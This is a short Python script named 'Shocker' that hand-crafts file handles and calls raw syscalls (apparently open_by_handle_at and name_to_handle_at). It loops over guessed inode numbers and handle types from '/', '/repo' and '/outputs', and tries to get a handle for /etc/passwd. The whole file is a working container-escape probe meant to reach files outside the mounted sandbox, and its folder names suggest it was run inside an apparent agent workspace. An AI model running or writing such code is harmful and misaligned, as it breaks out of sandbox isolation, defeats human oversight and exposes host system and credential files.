"""Shocker: a file handle made by hand reaches any file of a file system, whatever is mounted where."""

import ctypes
import os
import struct

from attempt import attempt, call

for inode in (1, 2, 128, 256):
    for kind in (1, 2, 0x81):
        handle = ctypes.create_string_buffer(struct.pack("<Ii", 8, kind) + struct.pack("<II", inode, 0), 136)
        for folder in ("/", "/repo", "/outputs"):
            attempt(f"open {inode} as {kind} from {folder}", lambda: call(304, os.open(folder, os.O_RDONLY), handle, 0))
handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0), 136)
attempt("name a handle", lambda: call(303, -100, b"/etc/passwd", handle, ctypes.create_string_buffer(8), 0))
